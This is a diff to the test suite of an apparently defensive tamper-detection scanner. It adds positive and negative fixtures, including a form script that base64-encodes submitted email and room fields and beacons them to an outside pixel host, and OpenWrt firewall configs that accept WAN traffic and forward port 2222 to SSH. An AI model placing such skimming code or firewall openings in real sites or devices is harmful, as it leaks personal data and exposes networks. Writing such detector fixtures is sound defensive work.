@@ -99,6 +99,28 @@ describeRuleCases('tamper', [
       '{\n "containerVersion": {\n  "tag": [\n   {\n    "name": "t",\n    "type": "html",\n    "parameter": [\n     {\n      "type": "TEMPLATE",\n      "key": "html",\n      "value": "<script>\\n(function(){\\n  var f = {{Form Element}};\\n  window.dataLayer.push({event: \'form_sent\', form_id: f.id, fields: f.elements.length});\\n})();\\n</script>"\n     }\n    ],\n    "firingTriggerId": [\n     "11"\n    ]\n   }\n  ],\n  "trigger": [\n   {\n    "triggerId": "11",\n    "type": "FORM_SUBMISSION"\n   }\n  ]\n }\n}',
   },
   {
+    id: 'SG-TAMPER-018',
+    // Named personal fields read on submit and beaconed base64'd.
+    file: 'assets/splash.html',
+    positive: `<form id="f"><input name="email"></form>
+<script>
+  var f = document.getElementById('f');
+  f.addEventListener('submit', function () {
+    var d = { email: f.email.value, room: f.room.value };
+    new Image().src = 'https://px.example.net/p.gif?d=' + encodeURIComponent(btoa(JSON.stringify(d)));
+  });
+</script>
+`,
+    negative: `<form id="f"><input name="email"></form>
+<script>
+  var f = document.getElementById('f');
+  f.addEventListener('submit', function () {
+    if (!f.email.value) alert('Enter your email');
+  });
+</script>
+`,
+  },
+  {
     id: 'SG-TAMPER-014',
     file: 'hotkeys.ahk',
     positive:
@@ -1289,5 +1311,38 @@ describe('SG-TAMPER-036 session protections', () => {
     const start = performance.now();
     findingsOf(text, 'config/x.xml');
     expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
+
+describeRuleCases('tamper (OpenWrt firewall opened to the internet)', [
+  {
+    id: 'SG-TAMPER-037',
+    file: 'config/firewall',
+    positive:
+      "config zone\n\toption name 'wan'\n\tlist network 'wan'\n\toption input 'ACCEPT'\n\toption forward 'ACCEPT'\n\nconfig redirect\n\toption src 'wan'\n\toption src_dport '2222'\n\toption dest_port '22'\n\toption target 'DNAT'\n",
+    negative:
+      "config zone\n\toption name 'wan'\n\tlist network 'wan'\n\toption input 'REJECT'\n\toption forward 'REJECT'\n\nconfig forwarding\n\toption src 'lan'\n\toption dest 'wan'\n",
+  },
+  {
+    id: 'SG-TAMPER-037',
+    file: 'files/etc/config/firewall',
+    positive:
+      "config zone\n\toption name 'wan'\n\toption input 'ACCEPT'\n\nconfig forwarding\n\toption src 'wan'\n\toption dest 'lan'\n",
+    // A guest zone accepting input (DHCP/DNS) forwarded out to wan only.
+    negative:
+      "config zone\n\toption name 'guest'\n\toption input 'ACCEPT'\n\nconfig zone\n\toption name 'wan'\n\toption input 'REJECT'\n\nconfig forwarding\n\toption src 'guest'\n\toption dest 'wan'\n",
+  },
+]);
+
+describe('adversarial UCI firewall text', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    ['zone headers', 'config zone\n'.repeat(MiB / 12)],
+    ['long options', "config zone\n\toption name '" + 'w'.repeat(MiB) + "'\n"],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under 200 ms', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'config/firewall');
+    expect(performance.now() - start).toBeLessThan(200);
   });
 });
